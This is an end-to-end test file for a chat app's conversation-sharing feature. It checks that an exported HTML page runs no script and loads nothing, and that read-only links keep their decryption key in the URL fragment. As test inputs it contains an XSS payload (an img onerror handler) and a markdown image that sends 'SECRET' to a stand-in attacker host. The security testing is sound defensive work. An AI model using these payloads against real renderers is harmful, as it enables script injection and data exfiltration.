"""Share a conversation (#34): as one web page (what the transcript shows, markdown, code, math, a diagram, as
static markup that runs no script and loads nothing, opened here with every request watched), and as a read-only
link to one encrypted file in the sync folder, the key only in the link's fragment, opened on the site."""

from __future__ import annotations

import re

import pytest
from journeys import REPLY_TIMEOUT_MS, configure, last_reply, open_app, send, wait_idle
from journeys_webdav_server import WebDav
from playwright.sync_api import Browser, expect
from sync_steps import dav, status, turn_on_sync
from vendor_replay import VendorReplay, with_text

pytestmark = pytest.mark.e2e
__all__ = ["dav"]  # the fixture, used by name

KEY = "sk-test-share-3e4f5a6b7c8d9e0f"
RECORDING = "openai/chat-stream-text-usage"
REPLY = ("Here is **the plan**.\n\n$$e^{i\\pi} + 1 = 0$$\n\n```python\nprint('hi')\n```\n\n"
         "```mermaid\ngraph TD; Start-->Finish\n```\n\n[docs](https://example.com/docs)\n")


def test_a_conversation_shared_as_a_web_page_shows_the_transcript_and_loads_nothing(
        browser: Browser, site_url: str, vendor: VendorReplay, tmp_path):
    page = open_app(browser, site_url)
    configure(page, vendor="openai", base=vendor.url, key=KEY, model="gpt-4o-mini")
    vendor.script_body("plan", with_text(RECORDING, REPLY), content_type="text/event-stream")
    send(page, "Share-me: make a plan")
    expect(last_reply(page).locator(".katex").first).to_be_visible(timeout=REPLY_TIMEOUT_MS)
    expect(last_reply(page).locator("svg").first).to_be_visible(timeout=REPLY_TIMEOUT_MS)
    wait_idle(page)

    page.get_by_role("button", name="Export").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="This conversation as a web page, to share").click()
    path = tmp_path / "shared.html"
    download.value.save_as(path)
    html = path.read_text(encoding="utf-8")
    assert download.value.suggested_filename.endswith(".html")
    assert "<script" not in html.lower() and KEY not in html
    assert "default-src 'none'" in html
    assert not re.search(r"""\s(?:src|srcset)=["'](?!data:)""", html), "nothing that loads"

    requests: list[str] = []
    viewer = browser.new_context(java_script_enabled=False)
    shown = viewer.new_page()
    shown.on("request", lambda r: requests.append(r.url))
    shown.goto(path.as_uri())
    expect(shown.get_by_role("heading", level=1)).to_have_text("Share-me: make a plan")
    expect(shown.locator(".msg.user")).to_contain_text("Share-me: make a plan")
    expect(shown.locator(".msg.assistant strong")).to_have_text("the plan")
    expect(shown.locator(".msg.assistant .katex").first).to_be_visible()
    expect(shown.locator(".msg.assistant pre code")).to_contain_text("print('hi')")
    expect(shown.locator(".msg.assistant svg").first).to_be_visible()
    expect(shown.get_by_role("link", name="docs")).to_have_attribute("href", "https://example.com/docs")
    expect(shown.get_by_role("button")).to_have_count(0)
    assert requests == [path.as_uri()], requests
    viewer.close()


HOSTILE = "Share-link: <img src=x onerror=window.pwned=1> make a plan"
LINK_REPLY = "Here is **the plan**: $e^{i\\pi} + 1 = 0$, then ![x](https://attacker.example/p?d=SECRET)\n"


def test_a_conversation_shared_as_a_link_opens_read_only_and_its_key_never_reaches_a_server(
        browser: Browser, site_url: str, vendor: VendorReplay, dav: WebDav):
    page = open_app(browser, site_url)
    configure(page, vendor="openai", base=vendor.url, key=KEY, model="gpt-4o-mini")
    vendor.script_body("plan", with_text(RECORDING, LINK_REPLY), content_type="text/event-stream")
    send(page, HOSTILE)
    expect(last_reply(page).locator("strong")).to_have_text("the plan", timeout=REPLY_TIMEOUT_MS)
    wait_idle(page)
    turn_on_sync(page, dav)
    expect(status(page)).to_contain_text("Synced at", timeout=REPLY_TIMEOUT_MS)
    page.get_by_role("dialog", name="Settings").get_by_role("button", name="Close").click()

    page.get_by_role("button", name="Export").click()
    page.get_by_role("button", name="This conversation as a read-only link (in the sync folder)").click()
    made = page.get_by_role("dialog", name="Read-only link")
    expect(made.get_by_label("Link", exact=True)).to_have_value(re.compile(r"#/shared/.+&k="), timeout=REPLY_TIMEOUT_MS)
    link = made.get_by_label("Link", exact=True).input_value()
    key = link.rsplit("&k=", 1)[1]
    assert link.startswith(site_url.split("#")[0]) and len(key) == 43
    [name] = [n for n in dav.files() if n.startswith("shared-")]
    assert b"the plan" not in dav.files()[name] and b"Share-link" not in dav.files()[name]

    heard: list[str] = []  # every request of the viewer's browser, with its headers
    viewer = browser.new_context()
    viewer.on("request", lambda r: heard.append(f"{r.url} {r.headers}"))
    shown_page = open_app(browser, link, context=viewer)
    shown = shown_page.get_by_role("dialog", name="Shared conversation")
    expect(shown.locator(".msg.assistant strong")).to_have_text("the plan", timeout=REPLY_TIMEOUT_MS)
    expect(shown.locator(".msg.assistant .katex").first).to_be_visible()
    expect(shown.locator(".msg.user")).to_have_text(HOSTILE)  # as text: no element made of it
    expect(shown.locator(".msg.user img")).to_have_count(0)
    expect(shown.get_by_role("button", name="Load this image")).to_be_visible()  # held, as any reply's (T-X1)
    expect(shown.get_by_role("textbox")).to_have_count(0)  # read-only: nothing to type into
    assert shown_page.evaluate("window.pwned") is None
    assert any(name in h for h in heard)  # the file came from the folder...
    assert not any(key in h for h in heard + dav.heard), "T-Y9: the key never left the fragment"
    assert not any("attacker.example" in h for h in heard)
    viewer.close()
